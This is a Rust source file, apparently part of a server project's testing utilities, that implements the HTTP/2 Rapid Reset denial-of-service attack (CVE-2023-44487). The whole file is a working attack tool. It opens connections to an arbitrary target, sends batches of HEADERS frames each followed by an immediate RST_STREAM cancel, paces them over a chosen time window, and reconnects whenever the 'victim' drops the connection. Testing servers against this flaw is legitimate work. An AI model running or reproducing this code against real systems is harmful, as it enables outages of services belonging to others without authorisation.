//! Rapid reset (CVE-2023-44487): streams that are opened and reset at once, so that the limit on open streams never holds.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use outrigger::testing::frames::{PREFACE, code, encode, flag, head, hpack, kind};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Streams written at once.
const BATCH: u64 = 50;
/// After a refused connection, or the loop would spin.
const PAUSE: Duration = Duration::from_millis(10);

/// Opens and resets that many streams, evenly from `begin` to `end`, over as many connections as the victim makes
/// necessary by closing them. Returns how many it wrote.
pub async fn rapid_reset(target: SocketAddr, streams: u64, begin: Instant, end: Instant) -> u64 {
    let span = end.saturating_duration_since(begin);
    let due = |sent: u64| begin + span.mul_f64(sent as f64 / streams.max(1) as f64);
    let mut sent = 0;
    while sent < streams && Instant::now() < end {
        match TcpStream::connect(target).await {
            Ok(stream) => sent = connection(stream, sent, streams, end, &due).await,
            Err(_) => tokio::time::sleep(PAUSE).await,
        }
    }
    sent
}

/// Goes on with `sent` over one connection until it ends, or all is sent.
async fn connection(
    stream: TcpStream,
    mut sent: u64,
    streams: u64,
    end: Instant,
    due: &impl Fn(u64) -> Instant,
) -> u64 {
    let (mut incoming, mut outgoing) = stream.into_split();
    let fields = hpack::literal(&head("GET", "/", &[]));
    let greeting = [PREFACE, &encode(kind::SETTINGS, 0, 0, &[]), &encode(kind::SETTINGS, flag::ACK, 0, &[])].concat();
    let write = async {
        if outgoing.write_all(&greeting).await.is_err() {
            return;
        }
        let mut id = 1;
        while sent < streams && id < 1 << 30 && Instant::now() < end {
            tokio::time::sleep_until(due(sent).into()).await;
            let mut batch = Vec::new();
            let count = BATCH.min(streams - sent);
            for _ in 0..count {
                batch.extend(encode(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, id, &fields));
                batch.extend(encode(kind::RST_STREAM, 0, id, &code::CANCEL.to_be_bytes()));
                id += 2;
            }
            if outgoing.write_all(&batch).await.is_err() {
                return;
            }
            sent += count;
        }
    };
    let read = async {
        let mut space = vec![0; 64 * 1024];
        while incoming.read(&mut space).await.is_ok_and(|count| count > 0) {}
    };
    tokio::select! {
        () = write => {}
        () = read => {}
    }
    sent
}
